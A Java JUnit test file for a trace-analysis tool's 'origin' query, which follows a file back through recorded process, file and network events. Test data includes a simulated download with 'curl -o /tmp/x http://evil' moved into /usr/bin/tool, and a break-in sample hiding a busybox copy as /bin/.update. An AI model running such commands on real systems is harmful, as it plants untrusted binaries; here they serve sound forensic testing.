// SPDX-License-Identifier: Apache-2.0
// Copyright the gvtrace authors

package dev.gvtrace.replay.query.narrative;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gvtrace.replay.query.narrative.Asking.Answer;
import dev.gvtrace.replay.table.RequestException;
import dev.gvtrace.replay.table.derived.Workload;
import java.io.IOException;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

class OriginTest {
    private static final int CREATE_NEW = Workload.WRITE | Workload.CREATE | Workload.EXCLUSIVE;

    private static Workload started() {
        return new Workload().start("/bin/server").as(1);
    }

    private static List<String> steps(Answer answer) {
        List<String> certainties = answer.column("certainty");
        List<String> texts = answer.texts();
        return IntStream.range(0, texts.size())
                .mapToObj(i -> certainties.get(i) + ": " + texts.get(i))
                .toList();
    }

    @Test
    void aDownloadThatWasMovedIsFollowedToItsPeer() throws IOException, RequestException {
        Workload workload = started()
                .fork(2)
                .as(2)
                .exec("/usr/bin/curl", "curl", "-o", "/tmp/x", "http://evil")
                .tcp(3)
                .connect(3, 9, 80, 0)
                .read(3, 500)
                .open("/tmp/x", CREATE_NEW, 4)
                .write(4, 500)
                .exit(0)
                .as(1)
                .fork(3)
                .as(3)
                .exec("/bin/mv", "mv", "/tmp/x", "/usr/bin/tool")
                .exit(0);
        assertThat(steps(Asking.ask(workload, "origin /usr/bin/tool")))
                .containsExactly(
                        "likely: Process 3 (mv) was asked to move or rename \"/tmp/x /usr/bin/tool\"; whether it did"
                                + " is not in the trace, but its exit code was 0.",
                        "seen: Process 2 (curl) created /tmp/x and wrote 500 bytes to it.",
                        "seen: Process 2 (curl) ran \"curl -o /tmp/x http://evil\" then, from /usr/bin/curl.",
                        "likely: Process 2 (curl) had received 500 bytes from 10.0.0.9:80.");
    }

    @Test
    void whatWasReadAfterTheLastWriteIsNoInput() throws IOException, RequestException {
        Workload workload = started()
                .open("/srv/out", CREATE_NEW, 3)
                .write(3, 5)
                .open("/srv/later", Workload.READ, 4)
                .read(4, 5)
                .exit(0);
        assertThat(steps(Asking.ask(workload, "origin /srv/out")))
                .noneMatch(step -> step.contains("later"))
                .anyMatch(step -> step.startsWith("unknown: Process 1 (server) had read nothing else"));
    }

    @Test
    void severalInputsArePossibleAndTheOneOfTheSameSizeIsLikely() throws IOException, RequestException {
        Workload workload = started()
                .open("/srv/a", Workload.READ, 3)
                .read(3, 5)
                .open("/srv/b", Workload.READ, 4)
                .read(4, 9)
                .open("/srv/out", CREATE_NEW, 5)
                .write(5, 9)
                .exit(0);
        assertThat(steps(Asking.ask(workload, "origin /srv/out")))
                .contains(
                        "possible: Process 1 (server) read 5 bytes from /srv/a.",
                        "likely: Process 1 (server) read 9 bytes from /srv/b.");
    }

    @Test
    void aPipeIsFollowedToRelativesWithoutClaimingMore() throws IOException, RequestException {
        Workload workload = started()
                .fork(2)
                .fork(3)
                .as(2)
                .tcp(3)
                .connect(3, 9, 80, 0)
                .read(3, 40)
                .as(3)
                .open("/srv/out", CREATE_NEW, 5)
                .write(5, 40)
                .exit(0);
        assertThat(steps(Asking.ask(workload, "origin /srv/out")))
                .noneMatch(step -> step.startsWith("seen") && step.contains("10.0.0.9"));
    }

    @Test
    void cyclesEnd() throws IOException, RequestException {
        Workload workload = started()
                .open("/srv/a", Workload.READ, 3)
                .read(3, 5)
                .open("/srv/b", Workload.WRITE | Workload.TRUNCATE, 4)
                .write(4, 5)
                .open("/srv/b", Workload.READ, 5)
                .read(5, 5)
                .open("/srv/a", Workload.WRITE | Workload.TRUNCATE, 6)
                .write(6, 5)
                .exit(0);
        assertThat(Asking.ask(workload, "origin /srv/a").rows()).isNotEmpty().hasSizeLessThan(12);
    }

    @Test
    void theBreakInsProgramIsACopyOfTheImages() throws IOException, RequestException {
        Answer answer = Asking.files("origin /usr/bin/.update", Asking.sample("web-break-in"));
        assertThat(steps(answer))
                .containsExactly(
                        "seen: Process 16 (cp) created /bin/.update; the trace shows no bytes written to it.",
                        "seen: Process 16 (cp) ran \"cp /bin/busybox /bin/.update\" then, from /usr/bin/cp.",
                        "likely: Process 16 (cp) opened /bin/busybox for reading; the trace shows no bytes read.",
                        "seen: /bin/busybox was from the image: it was run from a layer of the image, and nothing in"
                                + " the trace wrote it before.");
        assertThat(answer.column("evt")).startsWith("619", "565", "618");
    }

    @Test
    void aFileThatNothingWroteIsOfTheImageOnlyIfTheTraceSaysSo() throws IOException, RequestException {
        assertThat(steps(Asking.files("origin /etc/shadow", Asking.sample("web-break-in"))))
                .containsExactly("unknown: Nothing in the trace wrote /etc/shadow before; whether it is from the image"
                        + " is not in the trace.");
        assertThat(Asking.files("origin /no/such", Asking.sample("web-break-in"))
                        .rows())
                .isEmpty();
    }

    @Test
    void namesWithOtherBytesCanBeAskedFor() throws IOException, RequestException {
        Workload workload =
                started().open("/srv/x y\u001b", CREATE_NEW, 3).write(3, 1).exit(0);
        assertThat(steps(Asking.ask(workload, "origin '/srv/x y\u001b'")))
                .anyMatch(step -> step.contains("created \"/srv/x y\\x1b\" and wrote 1 byte"));
    }
}
